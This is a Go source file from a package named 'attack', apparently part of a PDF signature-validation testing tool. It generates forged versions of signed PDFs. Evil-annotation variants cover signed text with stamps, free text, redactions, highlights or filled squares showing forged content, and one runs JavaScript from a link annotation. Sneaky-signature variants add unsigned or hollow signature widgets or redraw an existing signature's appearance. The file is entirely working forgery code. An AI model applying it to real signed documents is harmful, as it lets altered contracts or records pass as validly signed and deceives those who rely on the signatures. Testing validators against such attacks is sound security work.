package attack

import (
	"strings"

	"github.com/antinvn/antin/pdf"
	"github.com/antinvn/antin/pdf/text"
)

const (
	eaa = "evil_annotation"
	ssa = "sneaky_signature"
)

// annotations: evil annotations lie over what was signed; sneaky signatures are fields that show content and hold no signature.
func annotations() []Variant {
	over := func(kind pdf.Name, content string) func(*forgery) ([]byte, error) {
		return func(f *forgery) ([]byte, error) {
			return f.annotation(func(u *pdf.Update, box pdf.Array) pdf.Dict {
				d := pdf.Dict{"Type": pdf.Name("Annot"), "Subtype": kind, "Rect": box, "F": int64(4), "Contents": pdf.String("x")}
				if content != "" {
					d["AP"] = pdf.Dict{"N": u.Add(drawing(content))}
				}
				return d
			})
		}
	}
	return []Variant{
		{"eaa-freetext", eaa, "a text annotation over signed text", true, over("FreeText", forged)},
		{"eaa-stamp", eaa, "a stamp over signed text", true, over("Stamp", forged)},
		{"eaa-redact", eaa, "a redaction over signed text", true, over("Redact", "")},
		{"eaa-square", eaa, "a filled square over signed text", true, over("Square", "1 g 0 0 300 100 re f")},
		{"eaa-highlight", eaa, "a mark on text that shows other text", true, over("Highlight", forged)},
		{"eaa-script", eaa, "an annotation that runs a script", true, func(f *forgery) ([]byte, error) {
			return f.annotation(func(_ *pdf.Update, box pdf.Array) pdf.Dict {
				return pdf.Dict{
					"Type": pdf.Name("Annot"), "Subtype": pdf.Name("Link"), "Rect": box,
					"A": pdf.Dict{"S": pdf.Name("JavaScript"), "JS": pdf.String("app.alert(1)")},
				}
			})
		}},
		{"ssa-empty-field", ssa, "a new signature field without signature shows content", true, func(f *forgery) ([]byte, error) {
			return f.sneaky(nil, true)
		}},
		{"ssa-hollow-signature", ssa, "a new signature field whose signature holds nothing", true, func(f *forgery) ([]byte, error) {
			return f.sneaky(pdf.Dict{"Type": pdf.Name("Sig"), "Filter": pdf.Name("Adobe.PPKLite"), "SubFilter": pdf.Name("ETSI.CAdES.detached")}, true)
		}},
		{"ssa-stray-widget", ssa, "a widget on the page that no field has", true, func(f *forgery) ([]byte, error) { return f.sneaky(nil, false) }},
		{"ssa-redrawn", ssa, "the picture of a signature is replaced", true, func(f *forgery) ([]byte, error) {
			o, err := f.doc.Latest().Dict(f.signature.FieldRef)
			if err != nil || o["Subtype"] != pdf.Name("Widget") {
				return nil, ErrNotApplicable
			}
			return f.revise(func(u *pdf.Update) error {
				return edited(u, f.signature.FieldRef, func(d pdf.Dict) { d["AP"] = pdf.Dict{"N": u.Add(drawing(forged))} })
			})
		}},
	}
}

// annotation puts one over the first text of the first page.
func (f *forgery) annotation(build func(u *pdf.Update, box pdf.Array) pdf.Dict) ([]byte, error) {
	p, err := f.page()
	if err != nil {
		return nil, err
	}
	glyphs, err := text.Glyphs(f.ctx, f.doc.Latest(), p)
	if err != nil {
		return nil, err
	}
	for i := range glyphs {
		g := &glyphs[i]
		if strings.TrimSpace(g.Text) == "" {
			continue
		}
		box := pdf.Array{g.Rect.X0 - 2, g.Rect.Y0 - 2, g.Rect.X1 + 200, g.Rect.Y1 + 4}
		return f.revise(func(u *pdf.Update) error { return annotate(u, p, u.Add(build(u, box))) })
	}
	return nil, ErrNotApplicable
}

// sneaky adds a widget of a signature field with a drawing, in the form or not.
func (f *forgery) sneaky(value pdf.Dict, inForm bool) ([]byte, error) {
	p, err := f.page()
	if err != nil {
		return nil, err
	}
	acro, ok := f.catalog()["AcroForm"].(pdf.Ref)
	if !ok {
		return nil, ErrNotApplicable
	}
	return f.revise(func(u *pdf.Update) error {
		d := pdf.Dict{
			"Type": pdf.Name("Annot"), "Subtype": pdf.Name("Widget"), "FT": pdf.Name("Sig"), "T": pdf.String("Sneaky"), "F": int64(4), "P": p.Ref,
			"Rect": pdf.Array{int64(50), int64(500), int64(350), int64(600)}, "AP": pdf.Dict{"N": u.Add(drawing(forged))},
		}
		if value != nil {
			d["V"] = u.Add(value)
		}
		r := u.Add(d)
		if err := annotate(u, p, r); err != nil || !inForm {
			return err
		}
		form, err := u.Base().Dict(acro)
		if err != nil {
			return err
		}
		if at, ok := form["Fields"].(pdf.Ref); ok {
			a, err := u.Base().Array(at)
			if err != nil {
				return err
			}
			return u.Set(at, append(append(pdf.Array{}, a...), r))
		}
		return edited(u, acro, func(d pdf.Dict) {
			a, _ := d["Fields"].(pdf.Array)
			d["Fields"] = append(append(pdf.Array{}, a...), r)
		})
	})
}

func (f *forgery) catalog() pdf.Dict {
	d, err := f.doc.Latest().Catalog()
	if err != nil {
		return nil
	}
	return d
}
